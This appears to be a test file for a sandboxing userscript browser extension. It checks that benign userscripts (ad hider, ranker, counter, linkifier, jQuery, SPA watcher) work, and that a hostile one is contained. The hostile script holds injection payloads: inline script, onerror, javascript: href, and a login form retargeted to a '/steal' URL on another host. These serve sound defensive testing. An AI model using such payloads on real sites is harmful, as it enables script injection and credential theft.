@@ -1,0 +1,347 @@
+// Userscripts that use the page as scripts written for the managers do (`document`,
+// `location`, `MutationObserver`, `addEventListener`, jQuery in `@require`), installed through
+// the install page and run on local pages shaped like the sites they are written for, in both
+// browsers: each is checked for its visible effect on the page. Then the attacker's side: a
+// script that tries every kind of change that runs code, loads from another host, navigates or
+// submits gets none of them into the page (and its replica is put right), a script the user
+// refused "changes this page" changes nothing, and one refused "reads this page" sees an empty
+// document and none of the page's events.
+// Needs PARANOID_EXT_CHROME and PARANOID_EXT_FIREFOX (the test builds).
+
+import { describe, it, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import path from 'node:path';
+import { readFileSync, writeFileSync, mkdirSync } from 'node:fs';
+import { createHash } from 'node:crypto';
+import { launch } from '../harness/sandbox-run.mjs';
+import { startPageServer } from '../harness/page-server.mjs';
+import { userscriptSession, waitForBackground } from '../harness/userscript-session.mjs';
+
+const BROWSERS = [
+  ['chromium', process.env.PARANOID_EXT_CHROME],
+  ['firefox', process.env.PARANOID_EXT_FIREFOX],
+];
+const SHOTS = path.resolve(process.env.PARANOID_SCREENSHOTS || 'target/screenshots');
+const JQUERY = readFileSync(new URL('../node_modules/jquery/dist/jquery.min.js', import.meta.url), 'utf8');
+const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
+const sha256 = (text) => createHash('sha256').update(text).digest('base64');
+const header = (lines) => `// ==UserScript==\n${lines.map((l) => `// ${l}`).join('\n')}\n// ==/UserScript==\n`;
+
+// Pages shaped like the sites the scripts are written for.
+const NEWS = `<!doctype html><html lang="en"><head><title>News</title></head><body>
+<header id="top"><h1>Daily News</h1></header>
+<div class="ad" id="ad1">Buy now</div>
+<ol id="stories">${Array.from({ length: 30 }, (_, i) => `<li class="story" data-id="${i}"><a class="title" href="/item/${i}">Story number ${i}</a> <span class="score">${i * 7} points</span></li>`).join('')}</ol>
+<div class="ad sponsored" id="ad2">Sponsored</div>
+<p id="notes">Docs at https://example.org/docs and http://example.net/a?b=c, plain text here.</p>
+<form id="search"><input id="q" name="q" value="first"></form>
+</body></html>`;
+
+// A single-page app: items arrive after the script has run, and the URL changes by pushState.
+const APP = `<!doctype html><html><head><title>App</title></head><body>
+<main id="feed"></main>
+<script>
+let n = 0;
+function add() { const d = document.createElement('article'); d.className = 'post'; d.textContent = 'post ' + (n++); document.getElementById('feed').append(d); }
+add();
+setTimeout(() => { add(); add(); history.pushState({}, '', '/app/second'); }, 600);
+setTimeout(() => { add(); }, 1200);
+</script>
+</body></html>`;
+
+// The page a hostile script runs on: a script of the page's own, a style, a password field, a
+// form, a link and a frame, each a target.
+const TARGET = `<!doctype html><html><head><title>Target</title><style id="page-style">p { color: rgb(0, 0, 0); }</style></head><body>
+<p id="para" class="c">Hello</p>
+<a id="link" href="/safe">safe</a>
+<form id="login" action="/login"><input id="user" name="user" value="alice"><input id="pw" type="password" name="pw" value="hunter2"></form>
+<script id="page-script">window.pageOwn = 1;</script>
+<div id="box"></div>
+</body></html>`;
+
+/**
+ * A script that tries every kind of change the page must refuse, each in a try (a refusal in
+ * the replica itself is fine too), then, once the page has answered, reports what its replica
+ * says of each target.
+ */
+function hostile(origin, otherOrigin) {
+  return header(['@name Hostile writer', '@namespace paranoid-page', '@version 1', `@match ${origin}/target/*`,
+    '@grant GM_setValue']) + `
+const password = document.getElementById('pw');
+const seen = { pwValue: password.value, pwAttr: password.getAttribute('value'), user: document.getElementById('user').value };
+const tried = {};
+const attempt = (name, f) => { try { f(); tried[name] = 'ran'; } catch (e) { tried[name] = String(e && e.message).slice(0, 80); } };
+const box = document.getElementById('box');
+attempt('script', () => { const s = document.createElement('script'); s.textContent = 'window.pwned = "script"'; box.appendChild(s); });
+attempt('script-src', () => { const s = document.createElement('script'); s.src = '${otherOrigin}/script.js'; document.head.appendChild(s); });
+attempt('onclick-attr', () => document.getElementById('para').setAttribute('onclick', 'window.pwned = "onclick"'));
+attempt('onerror-img', () => { box.innerHTML += '<img src="x" onerror="window.pwned = 1">'; });
+attempt('javascript-href', () => document.getElementById('link').setAttribute('href', 'javascript:window.pwned = "href"'));
+attempt('other-img', () => { const i = document.createElement('img'); i.src = '${otherOrigin}/img.png'; box.appendChild(i); });
+attempt('srcset', () => { const i = document.createElement('img'); i.setAttribute('srcset', '${otherOrigin}/srcset.png 1x'); box.appendChild(i); });
+attempt('style-url', () => { document.getElementById('para').style.backgroundImage = 'url(${otherOrigin}/bg.png)'; });
+attempt('style-attr-url', () => document.getElementById('para').setAttribute('style', 'background: url(${otherOrigin}/bg2.png)'));
+attempt('iframe', () => { const f = document.createElement('iframe'); f.setAttribute('srcdoc', '<script>parent.pwned = 1</' + 'script>'); box.appendChild(f); });
+attempt('svg-image', () => { box.innerHTML += '<svg><image href="${otherOrigin}/svg.png"></image></svg>'; });
+attempt('form-action', () => document.getElementById('login').setAttribute('action', '${otherOrigin}/steal'));
+attempt('formaction', () => { const b = document.createElement('button'); b.setAttribute('formaction', '${otherOrigin}/steal'); document.getElementById('login').appendChild(b); });
+attempt('base', () => { const b = document.createElement('base'); b.href = '${otherOrigin}/'; document.head.appendChild(b); });
+attempt('meta-refresh', () => { const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${otherOrigin}/'; document.head.appendChild(m); });
+attempt('link-css', () => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '${otherOrigin}/x.css'; document.head.appendChild(l); });
+attempt('object', () => { const o = document.createElement('object'); o.data = '${otherOrigin}/o'; box.appendChild(o); });
+attempt('page-script-text', () => { document.getElementById('page-script').textContent = 'window.pwned = "edited"'; });
+attempt('page-style-text', () => { document.getElementById('page-style').textContent = 'p { background: url(${otherOrigin}/css.png) }'; });
+attempt('remove-body', () => document.body.remove());
+attempt('move-head', () => document.body.appendChild(document.head));
+attempt('location', () => { location.href = '${otherOrigin}/nav'; });
+attempt('open', () => window.open('${otherOrigin}/open'));
+attempt('cookie', () => document.cookie);
+setTimeout(() => {
+  GM_setValue('report', {
+    tried, seen,
+    after: {
+      onclick: document.getElementById('para').getAttribute('onclick'),
+      href: document.getElementById('link').getAttribute('href'),
+      action: document.getElementById('login').getAttribute('action'),
+      pageScript: document.getElementById('page-script').textContent,
+      bodyThere: document.body !== null && document.body.parentNode === document.documentElement,
+    },
+  });
+}, 1500);
+`;
+}
+
+function scripts(origin) {
+  return {
+    // Hide elements: the commonest userscript of all.
+    hider: header(['@name Hide ads', '@namespace paranoid-page', '@version 1', `@match ${origin}/news/*`, '@grant none']) + `
+document.querySelectorAll('.ad, .sponsored').forEach((el) => el.remove());
+document.title = '[clean] ' + document.title;
+`,
+    // Restyle and rank: reads text, sets styles and classes, reorders a list.
+    ranker: header(['@name Rank stories', '@namespace paranoid-page', '@version 1', `@match ${origin}/news/*`, '@run-at document-idle', '@grant GM_addStyle']) + `
+GM_addStyle('.hot { font-weight: bold; }');
+const list = document.getElementById('stories');
+const items = [...list.querySelectorAll('li.story')];
+items.sort((a, b) => parseInt(b.querySelector('.score').textContent) - parseInt(a.querySelector('.score').textContent));
+for (const li of items) list.appendChild(li);
+items.slice(0, 3).forEach((li) => { li.classList.add('hot'); li.style.backgroundColor = 'rgb(255, 250, 200)'; li.dataset.rank = 'top'; });
+`,
+    // A button that acts and remembers, with a click listener and stored state.
+    counter: header(['@name Click counter', '@namespace paranoid-page', '@version 1', `@match ${origin}/news/*`,
+      '@grant GM_getValue', '@grant GM_setValue']) + `
+const button = document.createElement('button');
+button.id = 'us-counter';
+button.type = 'button';
+let clicks = GM_getValue('clicks', 0);
+button.textContent = 'Clicked ' + clicks;
+button.addEventListener('click', (event) => {
+  clicks += 1;
+  button.textContent = 'Clicked ' + clicks;
+  GM_setValue('clicks', clicks);
+  GM_setValue('target', event.target === button);
+});
+document.querySelector('header').appendChild(button);
+// A link of its own with a listener: its default (following the link) is prevented.
+const link = document.createElement('a');
+link.id = 'us-link';
+link.href = '/news/elsewhere.html';
+link.textContent = 'Reset';
+link.addEventListener('click', (event) => { event.preventDefault(); clicks = 0; button.textContent = 'Reset'; });
+document.querySelector('header').appendChild(link);
+`,
+    // Linkify: walks text nodes and replaces URLs with links.
+    linkify: header(['@name Linkify', '@namespace paranoid-page', '@version 1', `@match ${origin}/news/*`, '@grant none']) + `
+const walker = document.createTreeWalker(document.getElementById('notes'), NodeFilter.SHOW_TEXT);
+const texts = [];
+while (walker.nextNode()) texts.push(walker.currentNode);
+for (const text of texts) {
+  const parts = text.data.split(/(https?:\\/\\/[^\\s,]+)/);
+  if (parts.length === 1) continue;
+  const frag = document.createDocumentFragment();
+  parts.forEach((part, i) => {
+    if (i % 2 === 0) { if (part) frag.appendChild(document.createTextNode(part)); return; }
+    const a = document.createElement('a'); a.href = part; a.textContent = part; a.className = 'linkified'; frag.appendChild(a);
+  });
+  text.parentNode.replaceChild(frag, text);
+}
+`,
+    // jQuery from @require, pinned by its hash, as many scripts do.
+    jq: header(['@name jQuery marker', '@namespace paranoid-page', '@version 1', `@match ${origin}/news/*`,
+      `@require ${origin}/lib/jquery.min.js#sha256=${sha256(JQUERY)}`, '@grant none']) + `
+$(function () {
+  $('li.story').each(function () { $(this).attr('data-seen', 'yes'); });
+  $('#top').append($('<span id="jq-version">').text('jQuery ' + $.fn.jquery));
+  $('#q').val('typed by jQuery');
+});
+`,
+    // An SPA watcher: MutationObserver on the feed, and location that follows pushState.
+    watcher: header(['@name Feed watcher', '@namespace paranoid-page', '@version 1', `@match ${origin}/app/*`, '@grant GM_setValue']) + `
+const mark = () => document.querySelectorAll('article.post:not([data-marked])').forEach((p) => { p.dataset.marked = '1'; p.textContent += ' ✓'; });
+mark();
+new MutationObserver(() => { mark(); GM_setValue('path', location.pathname); }).observe(document.getElementById('feed'), { childList: true });
+`,
+  };
+}
+
+for (const [browser, ext] of BROWSERS) {
+  describe(`userscripts that use the page in ${browser}`, { skip: ext ? false : 'the test build is not set' }, () => {
+    let server, other, driver, session;
+    const ids = {};
+    before(async () => {
+      server = await startPageServer();
+      other = await startPageServer();
+      server.serve('/news/index.html', 'text/html; charset=utf-8', NEWS);
+      server.serve('/app/index.html', 'text/html; charset=utf-8', APP);
+      server.serve('/lib/jquery.min.js', 'text/javascript; charset=utf-8', JQUERY);
+      driver = await launch(browser, ext);
+      session = userscriptSession(driver, browser, ext);
+      await waitForBackground(driver, browser, ext);
+    });
+    after(async () => {
+      await driver?.quit().catch(() => {});
+      server?.close();
+      other?.close();
+    });
+
+    it('installs them, saying that they read and change the page, guessed from their code', async () => {
+      for (const [name, text] of Object.entries(scripts(server.origin))) {
+        const { page, id } = await session.paste(text);
+        assert.equal(page.verdict, 'ok', `${name}: ${page.text}`);
+        assert.match(page.text, /Reads the pages it runs on/, name);
+        assert.match(page.text, /Changes the pages it runs on/, name);
+        ids[name] = id;
+      }
+    });
+
+    it('runs them on a news page: each does its job, visibly', async () => {
+      await driver.get(`${server.origin}/news/index.html`);
+      const state = () => driver.executeScript(`return {
+        ads: document.querySelectorAll('.ad').length,
+        title: document.title,
+        first: document.querySelector('#stories li').dataset.id,
+        hot: [...document.querySelectorAll('li.hot')].map((li) => li.dataset.id + ':' + li.dataset.rank + ':' + li.style.backgroundColor),
+        button: document.getElementById('us-counter')?.textContent ?? null,
+        links: [...document.querySelectorAll('#notes a.linkified')].map((a) => a.getAttribute('href')),
+        seen: document.querySelectorAll('li[data-seen=yes]').length,
+        jq: document.getElementById('jq-version')?.textContent ?? null,
+        q: document.getElementById('q').value,
+        bold: getComputedStyle(document.querySelector('li.story')).fontWeight,
+      }`);
+      let s;
+      for (let i = 0; i < 100; i++) {
+        s = await state();
+        if (s.ads === 0 && s.hot.length === 3 && s.button && s.links.length === 2 && s.seen === 30 && s.jq && s.title.startsWith('[clean]')) break;
+        await sleep(100);
+      }
+      assert.equal(s.ads, 0, 'the ads are gone');
+      assert.equal(s.title, '[clean] News');
+      assert.equal(s.first, '29', 'the list is sorted by score');
+      assert.deepEqual(s.hot, ['29:top:rgb(255, 250, 200)', '28:top:rgb(255, 250, 200)', '27:top:rgb(255, 250, 200)']);
+      assert.equal(s.bold, '700', 'GM_addStyle beside the replica');
+      assert.equal(s.button, 'Clicked 0');
+      assert.deepEqual(s.links, ['https://example.org/docs', 'http://example.net/a?b=c']);
+      assert.equal(s.seen, 30);
+      assert.match(s.jq, /^jQuery 3\./);
+      assert.equal(s.q, 'typed by jQuery');
+      mkdirSync(SHOTS, { recursive: true });
+      writeFileSync(path.join(SHOTS, `page-replica-news-${browser}.png`), Buffer.from(await driver.takeScreenshot(), 'base64'));
+    });
+
+    it('delivers a click on its own button to its listener, and remembers it', async () => {
+      await driver.executeScript('document.getElementById("us-counter").click()');
+      await driver.executeScript('document.getElementById("us-counter").click()');
+      let text;
+      for (let i = 0; i < 50; i++) {
+        text = await driver.executeScript('return document.getElementById("us-counter").textContent');
+        if (text === 'Clicked 2') break;
+        await sleep(100);
+      }
+      assert.equal(text, 'Clicked 2');
+      const all = await session.storageUntil((a) => session.valuesOf(a, ids.counter).clicks === 2, 'the clicks were not stored');
+      assert.equal(session.valuesOf(all, ids.counter).target, true, 'the event\'s target is the script\'s own button');
+      await driver.navigate().refresh();
+      for (let i = 0; i < 50; i++) {
+        text = await driver.executeScript('return document.getElementById("us-counter")?.textContent ?? null');
+        if (text === 'Clicked 2') break;
+        await sleep(100);
+      }
+      assert.equal(text, 'Clicked 2', 'the count survives a reload');
+      await driver.executeScript('document.getElementById("us-link").click()');
+      for (let i = 0; i < 50; i++) {
+        text = await driver.executeScript('return document.getElementById("us-counter")?.textContent ?? null');
+        if (text === 'Reset') break;
+        await sleep(100);
+      }
+      assert.equal(text, 'Reset', 'the link\'s listener ran');
+      assert.equal(await driver.executeScript('return location.pathname'), '/news/index.html', 'and the link was not followed');
+    });
+
+    it('follows a single-page app: MutationObserver sees what the page adds, location follows pushState', async () => {
+      await driver.get(`${server.origin}/app/index.html`);
+      let s;
+      for (let i = 0; i < 60; i++) {
+        s = await driver.executeScript('return [...document.querySelectorAll("article.post")].map((p) => p.textContent)');
+        if (s.length === 4 && s.every((t) => t.endsWith('✓'))) break;
+        await sleep(100);
+      }
+      assert.deepEqual(s, ['post 0 ✓', 'post 1 ✓', 'post 2 ✓', 'post 3 ✓']);
+      const all = await session.storageUntil((a) => session.valuesOf(a, ids.watcher).path === '/app/second', 'location did not follow pushState');
+      assert.equal(session.valuesOf(all, ids.watcher).path, '/app/second');
+    });
+
+    it('applies none of a hostile script\'s changes that run code, load, navigate or submit, and puts its replica right', async () => {
+      server.serve('/target/index.html', 'text/html; charset=utf-8', TARGET);
+      const { page, id } = await session.paste(hostile(server.origin, other.origin));
+      assert.equal(page.verdict, 'ok', page.text);
+      await driver.get(`${server.origin}/target/index.html`);
+      const all = await session.storageUntil((a) => session.valuesOf(a, id).report, 'the hostile script did not report');
+      const { tried, seen, after } = session.valuesOf(all, id).report;
+      const state = await driver.executeScript(`return {
+        pwned: window.pwned ?? null, pageOwn: window.pageOwn,
+        scripts: document.scripts.length, onclick: document.getElementById('para').getAttribute('onclick'),
+        href: document.getElementById('link').getAttribute('href'), action: document.getElementById('login').getAttribute('action'),
+        style: document.getElementById('para').getAttribute('style'), styleText: document.getElementById('page-style').textContent,
+        box: document.getElementById('box').innerHTML, head: [...document.head.children].map((e) => e.localName).join(','),
+        bodyThere: document.body !== null, formKids: document.getElementById('login').children.length, url: location.pathname,
+      }`);
+      assert.deepEqual(state, {
+        pwned: null, pageOwn: 1, scripts: 1, onclick: null, href: '/safe', action: '/login', style: null,
+        styleText: 'p { color: rgb(0, 0, 0); }', box: '', head: 'title,style', bodyThere: true, formKids: 2, url: '/target/index.html',
+      }, JSON.stringify(tried));
+      assert.deepEqual(other.hits.map((h) => h.path), [], 'nothing was loaded from the other host');
+      assert.deepEqual(seen, { pwValue: '', pwAttr: null, user: 'alice' }, 'a password field\'s value is never in the replica');
+      assert.deepEqual(after, { onclick: null, href: '/safe', action: '/login', pageScript: 'window.pageOwn = 1;', bodyThere: true }, 'the replica was put right from the page');
+      for (const name of ['location', 'open', 'cookie']) assert.match(tried[name], /not available to a sandboxed userscript/, name);
+      await session.setStorage((a) => ({ [`paranoid:us:script:${id}`]: { ...a[`paranoid:us:script:${id}`], enabled: false } }));
+    });
+
+    it('keeps the changes of a script refused "changes this page" in its replica, and gives one refused "reads this page" an empty document', async () => {
+      const untick = (box) => async (d) => { await d.executeScript(`document.getElementById('${box}').checked = false`); };
+      const readOnly = header(['@name Read only', '@namespace paranoid-page', '@version 1', `@match ${server.origin}/target/*`, '@grant GM_setValue']) + `
+document.getElementById('para').textContent = 'changed by a reader';
+document.getElementById('box').appendChild(document.createElement('b')).textContent = 'added by a reader';
+GM_setValue('seen', { own: document.getElementById('para').textContent, title: document.title, links: document.querySelectorAll('a[href]').length });
+`;
+      const writeOnly = header(['@name Write only', '@namespace paranoid-page', '@version 1', `@match ${server.origin}/target/*`, '@grant GM_setValue']) + `
+const seen = { elements: document.querySelectorAll('*').length, text: document.body.textContent, para: document.getElementById('para'), title: document.title };
+const banner = document.createElement('div');
+banner.id = 'banner';
+banner.textContent = 'added without reading';
+document.body.appendChild(banner);
+let clicks = 0;
+document.addEventListener('click', () => { clicks += 1; });
+setTimeout(() => GM_setValue('seen', { ...seen, para: seen.para === null, clicks }), 1500);
+`;
+      const reader = await session.paste(readOnly, { onInstallPage: untick('page-write') });
+      const writer = await session.paste(writeOnly, { onInstallPage: untick('page-read') });
+      await driver.get(`${server.origin}/target/index.html`);
+      await driver.executeScript('document.getElementById("para").click()');
+      const all = await session.storageUntil((a) => session.valuesOf(a, reader.id).seen && session.valuesOf(a, writer.id).seen, 'the scripts did not report');
+      assert.deepEqual(session.valuesOf(all, reader.id).seen, { own: 'changed by a reader', title: 'Target', links: 1 }, 'it reads the page and its own changes');
+      assert.deepEqual(session.valuesOf(all, writer.id).seen, { elements: 3, text: '', para: true, title: '', clicks: 0 }, 'an empty document, no events');
+      const state = await driver.executeScript('return { para: document.getElementById("para").textContent, box: document.getElementById("box").innerHTML, banner: document.getElementById("banner")?.textContent ?? null }');
+      assert.deepEqual(state, { para: 'Hello', box: '', banner: 'added without reading' });
+    });
+  });
+}
